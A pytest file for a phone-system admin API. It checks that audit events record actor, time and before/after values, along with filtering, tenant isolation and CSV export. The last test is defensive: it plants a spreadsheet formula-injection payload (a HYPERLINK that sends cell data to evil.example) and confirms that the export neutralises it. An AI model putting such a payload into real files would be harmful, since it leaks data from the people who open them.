"""R-AU1: every change is in the audit log with actor, time, before and after."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from fastapi.testclient import TestClient

from phonedesk.config import Settings
from phonedesk.db import Database
from tests.api.helpers import API, as_person, assign, create_extension, create_profile, get
from tests.conftest import AccountInfo, auth, make_account


def _events(api: TestClient, **params: str) -> list[dict[str, Any]]:
    page = get(api, "/audit-events?limit=500&" + "&".join(f"{k}={v}" for k, v in params.items()))
    return list(page["items"])


def _token_id(api: TestClient) -> str:
    created = [e for e in _events(api, action="token.created")]
    return str(created[0]["target_id"])


def test_every_change_is_audited(api: TestClient, account: AccountInfo,
                                 database: Database) -> None:
    started = datetime.now(UTC)
    token_id = _token_id(api)
    alice = create_profile(api, "Alice", "Archer", "alice@acme.example", username="alice")
    bea = create_profile(api, "Bea", "Boss", "bea@acme.example", username="bea")
    api.patch(f"{API}/profiles/{alice['id']}", json={"email": "alice@new.example"})
    create_extension(api, "101")
    assign(api, "101", alice["id"])
    api.patch(f"{API}/extensions/101", json={"voicemail_email": "vm@home.example",
                                            "virtual_office_enabled": False})
    api.delete(f"{API}/extensions/101/profile")
    api.post(f"{API}/profiles/{alice['id']}/disable")
    api.post(f"{API}/profiles/{alice['id']}/enable")
    api.put(f"{API}/profiles/{bea['id']}/role", json={"role": "administrator"})
    # The transfer is the PA's own act (R-AC2), so its actor is the PA.
    as_person(api, database, account.primary_admin_id, "PUT", "/primary-administrator",
              json={"profile_id": bea["id"]})
    api.delete(f"{API}/profiles/{alice['id']}")
    finished = datetime.now(UTC)

    events = list(reversed(_events(api, actor_id=token_id)))
    by_action: dict[str, list[dict[str, Any]]] = {}
    for event in events:
        by_action.setdefault(event["action"], []).append(event)
        # Actor and time on every event.
        assert event["actor_type"] == "api_token"
        assert event["actor_id"] == token_id
        assert "tests" in event["actor_label"]
        at = datetime.fromisoformat(event["at"])
        assert at.tzinfo is not None
        assert started.replace(microsecond=0) <= at.replace(microsecond=0) <= finished
    assert list(by_action) == [
        "profile.created", "profile.updated", "extension.created",
        "extension.sip_password_created", "extension.assigned",
        "extension.updated", "extension.unassigned", "profile.disabled", "profile.enabled",
        "profile.role_changed", "profile.deleted",
    ]
    # Times never go backwards.
    times = [e["at"] for e in events]
    assert times == sorted(times)

    created = by_action["profile.created"][0]
    assert created["target_id"] == alice["id"]
    assert created["before"] is None
    assert created["after"]["username"] == "alice"
    assert created["after"]["email"] == "alice@acme.example"

    [updated] = by_action["profile.updated"]
    assert updated["before"] == {"email": "alice@acme.example"}
    assert updated["after"] == {"email": "alice@new.example"}

    [assigned] = by_action["extension.assigned"]
    assert assigned["target_id"] == "101"
    assert assigned["before"]["profile"] is None
    assert assigned["after"]["profile"] == alice["id"]
    assert assigned["after"]["voicemail_email"] == "alice@new.example"
    assert assigned["detail"] == {"email": "assigned_setup", "profile_name": "Alice Archer"}

    [ext_updated] = by_action["extension.updated"]
    assert ext_updated["before"]["voicemail_email"] == "alice@new.example"
    assert ext_updated["after"]["voicemail_email"] == "vm@home.example"
    assert ext_updated["before"]["virtual_office_enabled"] is True
    assert ext_updated["after"]["virtual_office_enabled"] is False

    [unassigned] = by_action["extension.unassigned"]
    assert unassigned["before"]["profile"] == alice["id"]
    assert unassigned["after"]["profile"] is None
    assert unassigned["after"]["voicemail_email"] == account.admin_email

    [disabled] = by_action["profile.disabled"]
    assert (disabled["before"], disabled["after"]) == ({"status": "active"},
                                                       {"status": "disabled"})
    [enabled] = by_action["profile.enabled"]
    assert (enabled["before"], enabled["after"]) == ({"status": "disabled"}, {"status": "active"})
    [role] = by_action["profile.role_changed"]
    assert (role["before"], role["after"]) == ({"role": None}, {"role": "administrator"})
    [transfer] = _events(api, action="account.primary_admin_transferred")
    assert transfer["actor_id"] == account.primary_admin_id
    assert transfer["before"] == {"primary_admin": account.primary_admin_id}
    assert transfer["after"] == {"primary_admin": bea["id"]}
    [deleted] = by_action["profile.deleted"]
    assert deleted["before"]["username"] == "alice"


def test_disable_lists_the_extensions_it_moved(api: TestClient) -> None:
    alice = create_profile(api, "Alice", "Archer", "alice@acme.example")
    for number in ("102", "103"):
        create_extension(api, number)
        assign(api, number, alice["id"])
    api.post(f"{API}/profiles/{alice['id']}/disable")
    [event] = _events(api, action="profile.disabled")
    assert event["detail"] == {"extensions_moved_to_primary_admin": ["102", "103"]}


def test_audit_filters_and_isolation(api: TestClient, account: AccountInfo,
                                     database: Database, settings: Settings) -> None:
    """Filters work; another account's events never show (R-AC1)."""
    other = make_account(database, settings, "Globex")
    create_profile(api, "Alice", "Archer", "alice@acme.example")
    api.post(f"{API}/profiles", json={"first_name": "G", "last_name": "X",
                                      "email": "g@globex.example"}, headers=auth(other.token))
    mine = _events(api)
    theirs = api.get(f"{API}/audit-events?limit=500", headers=auth(other.token)).json()["items"]
    assert {e["id"] for e in mine}.isdisjoint({e["id"] for e in theirs})
    assert all(e["action"].startswith("profile.") for e in _events(api, action="profile."))
    assert _events(api, action="profile.created")
    assert _events(api, target_type="profile")
    assert _events(api, since="2999-01-01T00:00:00Z") == []
    assert len(_events(api, until="2999-01-01T00:00:00%2B02:00")) == len(mine)


def test_audit_export_csv(api: TestClient) -> None:
    create_profile(api, "Alice", "Archer", "alice@acme.example", username="alice")
    response = api.get(f"{API}/audit-events.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["at", "actor", "action", "target_type", "target_id", "target",
                       "before", "after", "detail"]
    assert any(r[2] == "profile.created" and '"alice"' in r[7] for r in rows[1:])


def test_audit_export_neutralises_formulas(api: TestClient) -> None:
    """R-C6 holds for the audit export too: a profile named like a formula comes out as text,
    so opening the file in a spreadsheet runs nothing."""
    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    create_profile(api, name, "Archer", "alice@acme.example", username="alice")
    response = api.get(f"{API}/audit-events.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    created = next(r for r in rows[1:] if r[2] == "profile.created")
    assert created[5] == f"'{name} Archer"
    assert not [cell for row in rows[1:] for cell in row if cell and cell[0] in "=+-@\t\r"]
